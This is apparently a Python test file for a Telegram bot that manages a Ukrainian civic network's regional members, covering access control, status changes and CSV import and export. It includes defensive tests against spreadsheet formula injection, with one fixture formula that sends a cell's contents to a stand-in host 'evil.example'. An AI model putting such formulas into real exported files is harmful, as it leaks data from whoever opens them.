"""The network's members, end to end: queries, changes, access, CSV export and import."""

from __future__ import annotations

import csv
import io
import threading
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import handlers.members.bulk
from bot.demo import load_demo_data
from handlers.filters import Access
from handlers.members import csv_codec
from handlers.members.csv_codec import MAX_NAME, MAX_TEXT, RowError, export_csv, parse_csv
from handlers.members.keyboards import AdmitReadingCb, MemberAction, MemberCb
from infra.i18n import build_i18n
from infra.settings import Settings
from storage.members import Member, MemberFields, MemberStatus
from storage.repositories import Storage
from storage.roles import Role
from tests.client import ADMIN_ID, USER_ID, BotClient
from tests.raw import raw_execute
from tests.test_events import announce

LVIV = "UA-46"
KHERSON = "UA-65"
POLTAVA = "UA-53"
COORDINATOR = 700  # coordinator of Lviv oblast
REFUSED = "Ця команда вам недоступна."
NOT_YOURS = "You can change members only in your regions."
I18N = build_i18n()
CONFERENCE = "Всеукраїнська конференція з питань електронної демократії, Чернігів, 23–24 травня"


async def add(
    store: Storage,
    name: str,
    region_code: str,
    status: MemberStatus = MemberStatus.ADMITTED,
    since: date | None = date(2025, 5, 24),
    **extra: str,
) -> Member:
    fields = MemberFields(name=name, region_code=region_code, status=status, since=since, **extra)
    return await store.members.add(fields, by=ADMIN_ID)


async def coordinator(client: BotClient, store: Storage) -> BotClient:
    """The coordinator of Lviv oblast, speaking English (the msgids themselves)."""
    await store.roles.grant(COORDINATOR, Role.COORDINATOR, {LVIV}, by=ADMIN_ID)
    return client.as_user(COORDINATOR, language="en")


async def press(user: BotClient, message_id: int, label: str) -> dict[str, object]:
    """Press a button of a bot message (found again, so that edits are seen) and wait."""
    [message] = [m for m in user.sandbox.sent(user.chat_id) if m.message_id == message_id]
    data = message.button(label)["callback_data"]
    return await user.click_data(message, data)


def text_of(user: BotClient, message_id: int) -> str:
    [message] = [m for m in user.sandbox.sent(user.chat_id) if m.message_id == message_id]
    return message.plain_text


async def import_file(user: BotClient, content: bytes) -> str:
    """Send a CSV, then /import_members as a reply to it; the bot's answer to the command."""
    sandbox = user.sandbox
    since = sandbox.last_message_id(user.chat_id)
    update = sandbox.send_message(
        user.chat_id, "", user_id=user.user_id, document=("members.csv", content)
    )
    await sandbox.wait_for(user.chat_id, since=since, timeout=30)  # "only text and commands"
    since = sandbox.last_message_id(user.chat_id)
    sandbox.send_message(
        user.chat_id,
        "/import_members",
        user_id=user.user_id,
        reply_to_message_id=update["message"]["message_id"],
    )
    await sandbox.wait_for(user.chat_id, since=since, timeout=30)  # a large file takes seconds
    await user.settled()
    return "\n".join(m.plain_text for m in sandbox.sent(user.chat_id) if m.message_id > since)


async def export_file(user: BotClient) -> bytes:
    [answer] = await user.send("/export_members")
    assert answer.document is not None and answer.document[0] == "members.csv"
    return answer.document[1]


async def test_citizens_are_refused_even_with_crafted_buttons(
    client: BotClient, store: Storage
) -> None:
    member = await add(store, "Представники Херсонської області", KHERSON)
    for command in ("/network", "/members", "/member 1", "/admit Львів ГО", "/suspend 1"):
        [answer] = await client.send(command)
        assert answer.plain_text == REFUSED, command
    [answer] = await client.send("/export_members")
    assert answer.document is None and answer.plain_text == REFUSED
    [latest] = await client.send("/latest")
    data = MemberCb(action=MemberAction.SET, member_id=member.id, status=MemberStatus.LEFT)
    await client.click_data(latest, data.pack())
    assert await store.members.get(member.id) == member


async def test_network_summary_counts_regions_from_the_store(
    client: BotClient, store: Storage
) -> None:
    await add(store, "Представники Львівської області", LVIV, event_note=CONFERENCE)
    await add(store, "Представники Херсонської області", KHERSON, event_note=CONFERENCE)
    await add(store, "ГО «Полтавський кандидат»", POLTAVA, MemberStatus.CANDIDATE)
    await add(store, "Колишній учасник", POLTAVA, MemberStatus.LEFT)
    user = await coordinator(client, store)  # reads the whole network, changes only Lviv
    [answer] = await user.send("/network")
    text = answer.plain_text
    summary = await store.members.summary()
    assert summary.admitted_regions == 2
    assert f"Regions with admitted members: {summary.admitted_regions}" in text
    assert "Members: 4" in text
    assert "✅ admitted: 2" in text and "🕓 candidate: 1" in text and "🚪 left: 1" in text
    assert "Poltava: 🕓 1 · 🚪 1" in text or "Poltava oblast: 🕓 1 · 🚪 1" in text
    latest = text.split("Latest admissions")[1]
    assert "Представники Львівської області" in latest and CONFERENCE in latest
    assert "Полтавський кандидат" not in latest

    await add(store, "Представники Полтавської області", POLTAVA)
    [answer] = await user.send("/network")
    assert "Regions with admitted members: 3" in answer.plain_text


async def test_members_of_a_region_page_by_page(client: BotClient, store: Storage) -> None:
    for number in range(12):
        await add(store, f"Організація {number:02}", LVIV, MemberStatus.CANDIDATE)
    await add(store, "Херсонська організація", KHERSON)
    user = await coordinator(client, store)
    [listing] = await user.send("/members")  # default: the coordinator's regions
    assert listing.plain_text.count("№") == 10
    assert "Організація 00" in listing.plain_text and "since 24.05.2025" in listing.plain_text
    assert "Херсонська" not in listing.plain_text
    assert "Page 1 of 2" in listing.plain_text
    await press(user, listing.message_id, "▶️")
    page = text_of(user, listing.message_id)
    assert "Організація 11" in page and "Організація 00" not in page
    assert "Page 2 of 2" in page
    await press(user, listing.message_id, "◀️")
    assert "Організація 00" in text_of(user, listing.message_id)

    [kherson] = await user.send("/members Херсон")  # reading another region is allowed
    assert "Херсонська організація" in kherson.plain_text
    assert "✅ admitted since 24.05.2025" in kherson.plain_text
    [unknown] = await user.send("/members Атлантида")
    assert "not found" in unknown.plain_text


async def test_a_member_is_found_loosely_and_shown_with_history(
    client: BotClient, store: Storage
) -> None:
    open_city = await add(
        store, "ГО «Відкрите місто»", LVIV, contact="+380 00 000 0000", notes="Львів"
    )
    await add(store, "Представники Львівської області", LVIV)
    await add(store, "Представники Херсонської області", KHERSON, contact="секрет")
    user = await coordinator(client, store)
    for query in ("го відкрите місто", 'ГО "Відкрите Місто"', "відкрте місто", str(open_city.id)):
        [answer] = await user.send(f"/member {query}")
        text = answer.plain_text
        assert text.startswith(f"👥 ГО «Відкрите місто» (№{open_city.id})"), query
        assert "Contact: +380 00 000 0000" in text and "History" in text
        assert "24.05.2025 · ✅ admitted" in text
        assert answer.button("suspended")  # the coordinator's own region: buttons
    [choice] = await user.send("/member представники")
    assert "Several members match" in choice.plain_text
    [kherson] = await user.click(choice, "Херсонської")
    assert kherson.plain_text.startswith("👥 Представники Херсонської області")
    assert "секрет" not in kherson.plain_text  # the contact is for the region's coordinators
    assert not kherson.buttons  # and no changes for another region
    [none] = await user.send("/member Зовсім інша назва")
    assert "No member matches" in none.plain_text


async def test_admit_asks_first_then_admits_a_new_or_existing_member(
    client: BotClient, store: Storage, settings: Settings
) -> None:
    candidate = await add(store, "ГО «Львівська ініціатива»", LVIV, MemberStatus.CANDIDATE)
    user = await coordinator(client, store)
    [question] = await user.send("/admit Львів ГО «Нова громада»")
    assert "Нова громада" in question.plain_text and await store.members.count() == 1
    before = datetime.now(settings.tz).date()
    await press(user, question.message_id, "Admit")
    after = datetime.now(settings.tz).date()
    [new] = [m for m in await store.members.all() if m.name == "ГО «Нова громада»"]
    assert new.status is MemberStatus.ADMITTED and new.region_code == LVIV
    assert new.since in {before, after}  # today in Kyiv (two days only across a midnight)
    assert f"№{new.id}" in text_of(user, question.message_id)

    [question] = await user.send("/admit Львівська область го львівська ініціатива")
    assert "🕓 candidate" in question.plain_text
    await press(user, question.message_id, "Admit")
    moved = await store.members.get(candidate.id)
    assert moved is not None and moved.status is MemberStatus.ADMITTED
    history = await store.members.history(candidate.id)
    assert [change.status for change in history] == [MemberStatus.CANDIDATE, MemberStatus.ADMITTED]
    assert history[-1].changed_by == COORDINATOR
    actions = [entry.action for entry in await store.audit.recent(10)]
    assert actions.count("member_admit") == 2

    [question] = await user.send("/admit Львів Передумали")
    await press(user, question.message_id, "Cancel")
    assert await store.members.count() == 2
    [again] = await user.send("/admit Львів ГО «Нова громада»")
    assert "already admitted" in again.plain_text


async def test_lviv_coordinator_cannot_change_kherson_even_with_crafted_data(
    client: BotClient, store: Storage
) -> None:
    kherson = await add(store, "Представники Херсонської області", KHERSON)
    lviv = await add(store, "Представники Львівської області", LVIV)
    user = await coordinator(client, store)
    [answer] = await user.send("/admit Херсон ГО «Чужа»")
    assert answer.plain_text == NOT_YOURS and await store.members.count() == 2
    [answer] = await user.send(f"/suspend {kherson.id} бо так")
    assert answer.plain_text == NOT_YOURS
    [card] = await user.send(f"/member {lviv.id}")  # a card with buttons, for crafting
    for status in MemberStatus:
        data = MemberCb(action=MemberAction.SET, member_id=kherson.id, status=status).pack()
        answered = await user.click_data(card, data)
        assert answered.get("text") == NOT_YOURS
    answered = await user.click_data(card, MemberCb(action=MemberAction.ADMIT).pack())
    assert "out of date" in str(answered.get("text"))
    assert await store.members.get(kherson.id) == kherson
    assert len(await store.members.history(kherson.id)) == 1
    for action in (MemberAction.CONFIRM, MemberAction.EDIT, MemberAction.EVENTS):
        data = MemberCb(action=action, member_id=kherson.id).pack()
        answered = await user.click_data(card, data)
        assert answered.get("text") in (
            NOT_YOURS,
            "This button is out of date. Look at the card again: /member",
        )
    assert await store.members.get(kherson.id) == kherson
    # An admin may do everything, everywhere.
    admin = client.as_user(ADMIN_ID, language="en")
    [answer] = await admin.send(f"/suspend {kherson.id}")
    assert "Change the member's status?" in answer.plain_text
    await press(admin, answer.message_id, "Yes, change")
    assert "Suspended" in text_of(admin, answer.message_id)


async def test_suspend_and_status_buttons_keep_the_history(
    client: BotClient, store: Storage
) -> None:
    member = await add(store, "ГО «Відкрите місто»", LVIV)
    user = await coordinator(client, store)
    [answer] = await user.send(f"/suspend {member.id} не звітує <вже рік>")
    assert "✅ admitted → ⏸ suspended" in answer.plain_text
    assert "Reason: не звітує <вже рік>" in answer.plain_text
    await press(user, answer.message_id, "Yes, change")
    assert "⏸ Suspended: ГО «Відкрите місто»" in text_of(user, answer.message_id)
    [answer] = await user.send(f"/suspend {member.id}")
    assert "already suspended" in answer.plain_text
    [card] = await user.send(f"/member {member.id}")
    assert "не звітує <вже рік>" in card.plain_text
    await press(user, card.message_id, "admitted")
    assert "⏸ suspended → ✅ admitted" in text_of(user, card.message_id)  # asked in place
    answered = await press(user, card.message_id, "Yes, change")
    assert "Done: changed." in str(answered.get("text"))
    now = await store.members.get(member.id)
    assert now is not None and now.status is MemberStatus.ADMITTED
    history = await store.members.history(member.id)
    assert [change.status for change in history] == [
        MemberStatus.ADMITTED,
        MemberStatus.SUSPENDED,
        MemberStatus.ADMITTED,
    ]
    assert history[1].reason == "не звітує <вже рік>" and history[1].changed_by == COORDINATOR
    assert "⏸ suspended" in text_of(user, card.message_id)  # the card redrawn with history
    actions = [entry.action for entry in await store.audit.recent(10)]
    assert actions.count("member_status") == 2


async def test_import_rejects_a_bad_file_and_changes_nothing(
    client: BotClient, store: Storage
) -> None:
    lviv = await add(store, "Представники Львівської області", LVIV)
    kherson = await add(store, "Представники Херсонської області", KHERSON)
    user = await coordinator(client, store)
    before = await store.members.all()
    bad = (
        "id,name,region_code,status,since,contact,notes,event_note\r\n"
        f"{lviv.id},Представники Львівської області,UA-46,suspended,2025-06-01,,,\r\n"  # fine
        ",Нова,UA-46,admitted,,,,\r\n"  # fine
        ",,UA-46,admitted,,,,\r\n"  # no name
        ",Десь,Атлантида,admitted,,,,\r\n"  # unknown region
        ",Херсонська нова,UA-65,admitted,,,,\r\n"  # not this coordinator's region
        ",Статус,UA-46,чудовий,,,,\r\n"  # unknown status
        ",Дата,UA-46,admitted,31.02.2025,,,\r\n"  # no such date
        "999,Немає,UA-46,admitted,,,,\r\n"  # no such id
        f"{kherson.id},Представники Херсонської області,UA-46,admitted,,,,\r\n"  # not theirs
    ).encode("utf-8-sig")
    report = await import_file(user, bad)
    assert "nothing was changed" in report
    for line in (4, 5, 6, 7, 8, 9, 10):
        assert f"Row {line}:" in report, line
    assert "Row 2:" not in report and "Row 3:" not in report
    assert await store.members.all() == before
    assert len(await store.members.history(lviv.id)) == 1


async def test_import_takes_the_file_it_is_sent_with_and_keeps_to_its_limits(
    client: BotClient, store: Storage
) -> None:
    """The command as a file's caption (or in reply to one, above); at most 1 MB; the first
    40 problems shown, and how many more there are."""
    user = await coordinator(client, store)
    [alone] = await user.send("/import_members")
    assert "Reply with /import_members to a CSV file" in alone.plain_text
    header = "name,region_code,status\r\n"

    async def captioned(content: str) -> str:
        since = client.sandbox.last_message_id(user.chat_id)
        client.sandbox.send_message(
            user.chat_id,
            "/import_members",
            user_id=user.user_id,
            document=("members.csv", content.encode()),
        )
        await client.sandbox.wait_for(user.chat_id, since=since, timeout=30)
        await user.settled()
        answers = client.sandbox.sent(user.chat_id)
        return "\n".join(m.plain_text for m in answers if m.message_id > since)

    forty = await captioned(header + ",UA-46,admitted\r\n" * 40)
    assert "Row 41: the name is empty." in forty and "more" not in forty
    forty_one = await captioned(header + ",UA-46,admitted\r\n" * 41)
    assert "Row 41:" in forty_one and "Row 42:" not in forty_one
    assert "…and 1 more." in forty_one
    padding = 1_000_000 - len(header)
    assert "The file has no rows" in await captioned(header + "\n" * padding)  # 1 MB exactly
    too_large = await captioned(header + "\n" * (padding + 1))
    assert "The file is too large (at most 1 MB)." in too_large
    assert await store.members.all() == []


async def test_a_member_deleted_while_the_file_was_checked_changes_nothing(
    client: BotClient, store: Storage, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A row names a member that was there when the file was read, and is gone when it is
    applied: all or nothing, so nothing is changed, and the coordinator is told which."""
    kept = await add(store, "Представники Львівської області", LVIV)
    gone = await add(store, "ГО «Тимчасова»", LVIV)
    user = await coordinator(client, store)
    checked = csv_codec.read_import

    def read_while_deleted(*args: object, **kwargs: object) -> object:
        result = checked(*args, **kwargs)  # type: ignore[arg-type]
        raw_execute(settings, "DELETE FROM members WHERE id = ?", (gone.id,))  # another writer
        return result

    monkeypatch.setattr(handlers.members.bulk, "read_import", read_while_deleted)
    before = await store.members.all()
    report = await import_file(
        user,
        (
            "id,name,region_code,status\r\n"
            f"{kept.id},Представники Львівської області,UA-46,suspended\r\n"  # updated...
            f"{gone.id},ГО «Тимчасова»,UA-46,suspended\r\n"  # ...but this one is gone...
            ",ГО «Нова»,UA-46,admitted\r\n"  # ...and this would be added
        ).encode(),
    )
    assert report == f"There is no member №{gone.id}; nothing was changed."
    assert await store.members.all() == [m for m in before if m.id != gone.id]
    assert len(await store.members.history(kept.id)) == 1
    assert "members_import" not in [entry.action for entry in await store.audit.recent(10)]


async def test_import_applies_a_good_file_and_an_export_reimports_to_the_same_state(
    client: BotClient, store: Storage
) -> None:
    await add(store, "Представники Львівської області", LVIV, event_note=CONFERENCE)
    await add(store, "Представники Херсонської області", KHERSON, contact="a@b.c")
    admin = client.as_user(ADMIN_ID, language="en")
    exported = await export_file(admin)
    assert exported.startswith("\ufeff".encode())
    assert exported.decode("utf-8-sig").splitlines()[0] == (
        "id,name,region_code,status,since,contact,notes,event_note"
    )
    before = await store.members.all()
    report = await import_file(admin, exported)
    assert "0 added, 0 updated, 2 unchanged" in report
    assert await store.members.all() == before

    # Spreadsheets in Ukraine save with semicolons; Ukrainian status words are fine.
    good = (
        "id;name;region_code;status;since;contact;notes;event_note\r\n"
        "1;Представники Львівської області;UA-46;призупинено;01.06.2025;;не звітує;\r\n"
        ";ГО «Полтавська громада»;Полтава;кандидат;;x@y.z;;\r\n"
    ).encode("utf-8-sig")
    report = await import_file(admin, good)
    assert "1 added, 1 updated, 0 unchanged" in report
    [entry, *_older] = await store.audit.recent(5)
    assert (entry.user_id, entry.action) == (ADMIN_ID, "members_import")
    lviv = await store.members.get(1)
    assert lviv is not None and lviv.status is MemberStatus.SUSPENDED
    assert lviv.since == date(2025, 6, 1) and lviv.notes == "не звітує"
    [poltava] = await store.members.all([POLTAVA])
    assert poltava.status is MemberStatus.CANDIDATE and poltava.contact == "x@y.z"

    state = await store.members.all()
    again = await export_file(admin)
    assert "0 added, 0 updated, 3 unchanged" in await import_file(admin, again)
    assert await store.members.all() == state

    # A coordinator exports their regions only, and re-imports them unchanged.
    user = await coordinator(client, store)
    mine = await export_file(user)
    assert "Херсонськ" not in mine.decode("utf-8-sig")
    assert "0 added, 0 updated, 1 unchanged" in await import_file(user, mine)


async def test_an_import_updates_what_changed_and_keeps_the_history_of_status_changes(
    client: BotClient, store: Storage
) -> None:
    """Rows as they are change nothing (an event the member is linked to included), even
    before a row that does change; a new contact is an update without a history entry; a
    new status is one with it, dated as the file says, by whoever imported it."""
    same = await add(store, "ГО «Без змін»", LVIV)
    linked = await add(store, "ГО «На конференції»", LVIV)
    event_id = await announce(store, "Конференція", datetime.now(UTC) + timedelta(days=3))
    await store.db.execute("UPDATE members SET event_id = ? WHERE id = ?", (event_id, linked.id))
    contact = await add(store, "ГО «Новий телефон»", LVIV)
    status = await add(store, "ГО «Призупинена»", LVIV)
    user = await coordinator(client, store)
    rows = [
        f"{same.id},ГО «Без змін»,UA-46,admitted,2025-05-24,,,",
        f"{linked.id},ГО «На конференції»,UA-46,admitted,2025-05-24,,,",
        f"{contact.id},ГО «Новий телефон»,UA-46,admitted,2025-05-24,+380 44 000 00 00,,",
        f"{status.id},ГО «Призупинена»,UA-46,suspended,2025-06-01,,,",
    ]
    header = "id,name,region_code,status,since,contact,notes,event_note"
    report = await import_file(user, "\r\n".join([header, *rows]).encode())
    assert "Imported: 0 added, 2 updated, 2 unchanged." in report
    assert [len(await store.members.history(m.id)) for m in (same, linked, contact)] == [1, 1, 1]
    changed = await store.members.get(contact.id)
    assert changed is not None and changed.contact == "+380 44 000 00 00"
    *_, change = await store.members.history(status.id)
    assert (change.status, change.since, change.reason, change.changed_by) == (
        MemberStatus.SUSPENDED,
        date(2025, 6, 1),
        "",
        COORDINATOR,
    )


async def test_the_demo_shows_what_the_source_names_and_nothing_more(
    client: BotClient, store: Storage
) -> None:
    await load_demo_data(store)
    await load_demo_data(store)  # once: a second start adds nothing
    assert await store.members.count() == 4
    admin = client.as_user(ADMIN_ID, language="en")
    [answer] = await admin.send("/network")
    text = answer.plain_text
    assert "Regions with admitted members: 4" in text
    for oblast in ("Львівської", "Житомирської", "Херсонської", "Полтавської"):
        assert f"Представники {oblast} області" in text
    assert CONFERENCE in text
    # The note is the network's own, kept per language: English readers get the English one.
    assert "unites 13 regions of Ukraine, but names only four" in text
    assert "об’єднує" not in text
    ukrainian = client.as_user(ADMIN_ID, language="uk")
    [answer] = await ukrainian.send("/network")
    assert "об’єднує 13 регіонів" in answer.plain_text and "називає лише" in answer.plain_text
    assert all(not member.contact for member in await store.members.all())
    # The four took part in the conference, an event of Chernihiv oblast, shown on each card.
    for member in await store.members.all():
        assert member.event_id is not None
        event = await store.events.get(member.event_id)
        assert event is not None and event.region_code == "UA-74" and event.place == "Чернігів"
    [card] = await ukrainian.send("/member Представники Львівської області")
    assert (
        "Подія: Всеукраїнська конференція з питань електронної демократії (23–24.05.2025, "
        "Чернігів)" in card.plain_text
    )
    # Nobody subscribed to Chernihiv got the announcement of that past event.
    [conference] = await store.events.latest()
    assert sum((await store.outbox.counts(conference.item_id)).values()) == 0


# ----------------------------------------------------------------------------- hostile CSV

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Відкрити")',
    "contact": "+380 00 000 0000",
    "notes": "@SUM(1+1)",
    "event_note": "-2+3",
}


async def test_export_guards_formula_cells_and_an_import_reads_them_back(
    client: BotClient, store: Storage
) -> None:
    formulas = await add(
        store, FORMULAS["name"], LVIV, **{k: v for k, v in FORMULAS.items() if k != "name"}
    )
    # Already starting with an apostrophe: must come back with it, not lose it.
    quoted = await add(store, "'=не формула", LVIV, notes="'звичайний текст")
    plain = await add(store, "ГО «Відкрите місто»", LVIV)
    admin = client.as_user(ADMIN_ID, language="en")
    exported = await export_file(admin)
    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
    by_id = {int(row["id"]): row for row in rows}
    for column, value in FORMULAS.items():
        assert by_id[formulas.id][column] == "'" + value, column
    assert by_id[quoted.id]["name"] == "''=не формула"
    assert by_id[quoted.id]["notes"] == "'звичайний текст"
    assert by_id[plain.id]["name"] == "ГО «Відкрите місто»"
    for row in rows:  # no cell a spreadsheet would run
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())

    before = await store.members.all()
    assert "0 added, 0 updated, 3 unchanged" in await import_file(admin, exported)
    assert await store.members.all() == before


def test_only_what_a_spreadsheet_would_run_is_guarded() -> None:
    member = Member(1, "X=1 «Громада»", LVIV, MemberStatus.ADMITTED, None, "", None, "", "=1+1")
    [row] = list(csv.DictReader(io.StringIO(export_csv([member]).decode("utf-8-sig"))))
    assert (row["name"], row["notes"]) == ("X=1 «Громада»", "'=1+1")


async def test_import_refuses_duplicates_unless_the_row_carries_the_id(
    client: BotClient, store: Storage
) -> None:
    city = await add(store, "ГО «Відкрите місто»", LVIV)
    user = await coordinator(client, store)
    before = await store.members.all()
    duplicates = (
        "id,name,region_code,status\r\n"
        ',"го ""Відкрите   місто""",UA-46,candidate\r\n'  # the existing member, without its id
        ",ГО «Нова»,UA-46,candidate\r\n"  # fine once
        ",го нова,Львів,admitted\r\n"  # the row above again
        f"{city.id},ГО «Відкрите місто»,UA-46,suspended\r\n"  # its own id: a change, fine
    ).encode()
    report = await import_file(user, duplicates)
    assert "nothing was changed" in report
    assert f"Row 2: member №{city.id} has the same name and region" in report
    assert "Row 4: row 3 has the same name and region" in report
    assert "Row 3:" not in report and "Row 5:" not in report
    assert await store.members.all() == before

    # A row with an id renames its member: the name it leaves is free for a new row.
    renaming = (
        "id,name,region_code,status\r\n"
        f"{city.id},ГО «Місто людей»,UA-46,admitted\r\n"
        ",ГО «Відкрите місто»,UA-46,candidate\r\n"
    ).encode()
    assert "1 added, 1 updated" in await import_file(user, renaming)
    names = sorted(member.name for member in await store.members.all())
    assert names == ["ГО «Відкрите місто»", "ГО «Місто людей»"]


async def test_unreadable_files_get_row_errors_and_old_mac_line_endings_are_read(
    client: BotClient, store: Storage
) -> None:
    user = await coordinator(client, store)
    header = "id,name,region_code,status\r\n"
    nul = (header + ",Нова,UA-46,admitted\r\n,Зі\x00значком,UA-46,admitted\r\n").encode()
    report = await import_file(user, nul)
    assert "Row 3: the row has control characters" in report and "Row 2:" not in report
    huge = header + ",Нова,UA-46,admitted\r\n" + ',"' + "я" * 140_000 + '",UA-46,admitted\r\n'
    report = await import_file(user, huge.encode())
    assert "Row 3: the row is not valid CSV (field larger than field limit" in report
    assert await store.members.count() == 0
    for answer in user.sandbox.sent(user.chat_id):
        assert "Something went wrong" not in answer.plain_text

    mac = "id,name,region_code,status\r,ГО «Нова»,UA-46,admitted\r,ГО «Друга»,Львів,кандидат\r"
    assert "2 added, 0 updated" in await import_file(user, mac.encode("utf-8-sig"))
    assert sorted(m.name for m in await store.members.all()) == ["ГО «Друга»", "ГО «Нова»"]


async def test_a_large_import_is_checked_without_stalling_the_bot(
    client: BotClient, store: Storage, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another user is answered while a large file is being checked (in a thread). The check
    is held at a gate until that answer has come: were it run on the event loop, the gate would
    stall the bot, /help would be answered only after the report, and the order would show it."""
    admin = client.as_user(ADMIN_ID, language="en")
    other = client.as_user(USER_ID + 1)
    gate = threading.Event()
    real_read_import = handlers.members.bulk.read_import

    def gated_read_import(*args: Any) -> Any:
        gate.wait(timeout=30)
        return real_read_import(*args)

    monkeypatch.setattr(handlers.members.bulk, "read_import", gated_read_import)
    # 14,000 rows whose region has a typo (the slow, forgiving match) and a bad status.
    rows = [f",Організація номер {n},Львв,чудовий" for n in range(14000)]
    content = ("id,name,region_code,status\r\n" + "\r\n".join(rows)).encode()
    assert len(content) < 1_000_000  # the largest file the bot takes
    sandbox = client.sandbox
    since = sandbox.last_message_id(admin.chat_id)
    update = sandbox.send_message(
        admin.chat_id, "", user_id=admin.user_id, document=("members.csv", content)
    )
    await sandbox.wait_for(admin.chat_id, since=since)  # "only text and commands"
    since = sandbox.last_message_id(admin.chat_id)
    sandbox.send_message(
        admin.chat_id,
        "/import_members",
        user_id=admin.user_id,
        reply_to_message_id=update["message"]["message_id"],
    )
    since += 1  # the command
    await sandbox.wait_until(lambda: sandbox.calls["getFile"] == 1)  # the check begins
    sandbox.send_message(other.chat_id, "/help", user_id=other.user_id)
    try:
        [answer] = await sandbox.wait_for(other.chat_id, timeout=30)
    finally:
        gate.set()
    assert "/latest" in answer.plain_text
    assert sandbox.last_message_id(admin.chat_id) == since, "the check was over first"
    [report, *_rest] = await sandbox.wait_for(admin.chat_id, since=since, timeout=60)
    assert "Row 2: unknown status" in report.plain_text
    await client.settled(timeout=30)
    full = "\n".join(m.plain_text for m in sandbox.sent(admin.chat_id) if m.message_id > since)
    assert "…and 13960 more." in full


@settings(max_examples=200, deadline=None)
@given(
    texts=st.lists(
        st.text(alphabet="=+-@'\t\r\n ,;\"«»аб1", max_size=12).filter(
            lambda text: text == text.strip()
        ),
        min_size=4,
        max_size=4,
    )
)
def test_an_export_reads_back_exactly_whatever_its_cells_start_with(texts: list[str]) -> None:
    name, contact, notes, event_note = texts
    member = Member(
        id=7,
        name=name or "x",
        region_code=LVIV,
        status=MemberStatus.CANDIDATE,
        since=date(2025, 5, 24),
        event_note=event_note,
        event_id=None,
        contact=contact,
        notes=notes,
    )
    admin = Access(
        user_id=ADMIN_ID,
        is_admin=True,
        editor_regions=frozenset(),
        coordinator_regions=frozenset(),
    )
    with I18N.context(), I18N.use_locale("en"):
        rows, errors = parse_csv(
            export_csv([member]).decode("utf-8-sig"), admin, {member.id: member}
        )
    assert errors == []
    assert rows == [
        MemberFields(
            id=member.id,
            name=member.name,
            region_code=LVIV,
            status=member.status,
            since=member.since,
            contact=contact,
            notes=notes,
            event_note=event_note,
        )
    ]


def _member(member_id: int, name: str, region_code: str) -> Member:
    return Member(member_id, name, region_code, MemberStatus.ADMITTED, None, "", None, "", "")


def test_an_import_is_checked_row_by_row() -> None:
    """Every row's every problem, by line, against the members as they are; blank rows are
    passed over and a row with control characters is refused, and neither ends the reading."""
    lviv = Access(ADMIN_ID + 1, False, frozenset(), frozenset({LVIV}))
    existing = {
        5: _member(5, "Олена Коваль", LVIV),
        6: _member(6, "Петро Гнатюк", KHERSON),
        7: _member(7, "Ірина Бойко", LVIV),
        8: _member(8, "Марта Левицька", LVIV),  # not in the file
    }
    name = "Я" * MAX_NAME
    text = "\r\n".join(
        [
            "id;name;region_code;status;contact",
            "№5;Олена Коваль;UA-46;admitted",  # a row may end before the last columns
            "#7;Ірина Бойко;Львів;кандидат;" + "к" * MAX_TEXT,
            ";;;;",
            "5;Інна;UA-46;left",  # 5 again
            "6;Петро;UA-65;left",  # not this coordinator's member
            "9;Хтось;UA-46;left",  # no such member
            "7#;Хтось;UA-46;left",
            "abc;Хтось;UA-46;left",
            "X7;Хтось;UA-46;left",
            "1" * 12 + ";Хтось;UA-46;left",
            "1" * 13 + ";Хтось;UA-46;left",
            f";{name};UA-46;candidate",
            f";{name}Я;UA-46;candidate",
            ";;Марс;дружба",
            ";Хтось;Херсон;left",
            ";Хтось;UA-46;left;" + "к" * (MAX_TEXT + 1),
            ";олена  КОВАЛЬ;UA-46;candidate",  # the name of member 5: a new row may not take it
            ";Нова;UA-46;candidate\x00",
            ";Нова;UA-46;candidate",
            ";нова;UA-46;left",
            ";Марта Левицька;Львівщина;candidate",
        ]
    )
    with I18N.context(), I18N.use_locale("en"):
        rows, errors = parse_csv(text, lviv, existing)
    assert [(row.id, row.name) for row in rows] == [
        (5, "Олена Коваль"),
        (7, "Ірина Бойко"),
        (None, name),
        (None, "олена  КОВАЛЬ"),  # checked; its line's error stops the import
        (None, "Нова"),
        (None, "нова"),
        (None, "Марта Левицька"),
    ]
    assert rows[1].region_code == LVIV and rows[1].contact == "к" * MAX_TEXT
    assert [(error.line, error.text) for error in errors] == [
        (5, "id 5 appears twice"),
        (6, "member 6 is not in your regions; the region “UA-65” is not yours"),
        (7, "there is no member with id 9"),
        (8, "the id “7#” is not a number"),
        (9, "the id “abc” is not a number"),
        (10, "the id “X7” is not a number"),
        (11, "there is no member with id 111111111111"),
        (12, "the id “1111111111111” is not a number"),
        (14, f"the name is longer than {MAX_NAME} characters"),
        (
            15,
            "the name is empty; unknown region “Марс”; "
            "unknown status “дружба” (candidate, admitted, suspended, left)",
        ),
        (16, "the region “UA-65” is not yours"),
        (17, f"a text is longer than {MAX_TEXT} characters"),
        (
            18,
            "member №5 has the same name and region (to change it, put its id in the row)",
        ),
        (19, "the row has control characters (such as NUL)"),
        (21, "row 20 has the same name and region"),
        (22, "member №8 has the same name and region (to change it, put its id in the row)"),
    ]


def test_an_import_without_its_columns_or_not_csv_says_so_at_line_one() -> None:
    admin = Access(ADMIN_ID, True, frozenset(), frozenset())
    with I18N.context(), I18N.use_locale("en"):
        assert parse_csv("", admin, {}) == (
            [],
            [RowError(1, "The header lacks the columns: name, region_code, status.")],
        )
        assert parse_csv("id,name,region\r\n1,A,UA-46", admin, {}) == (
            [],
            [RowError(1, "The header lacks the columns: region_code, status.")],
        )
        rows, [error] = parse_csv("name," + "x" * 200_000, admin, {})
    assert rows == [] and error.line == 1
    assert error.text.startswith("the row is not valid CSV (field larger than field limit")


# ----------------------------------------------------------------------------- /admit, strictly


async def test_admit_reads_the_region_strictly_and_keeps_the_whole_name(
    client: BotClient, store: Storage
) -> None:
    user = await coordinator(client, store)
    [question] = await user.send("/admit Львів ГО «Місто, Люди»")
    assert "ГО «Місто, Люди»" in question.plain_text
    await press(user, question.message_id, "Admit")
    [member] = await store.members.all()
    assert member.name == "ГО «Місто, Люди»" and member.region_code == LVIV

    for text, name in (
        ("/admit UA-46 Громада «Львів»", "Громада «Львів»"),
        ("/admit Львівська область Спілка, Львів", "Спілка, Львів"),
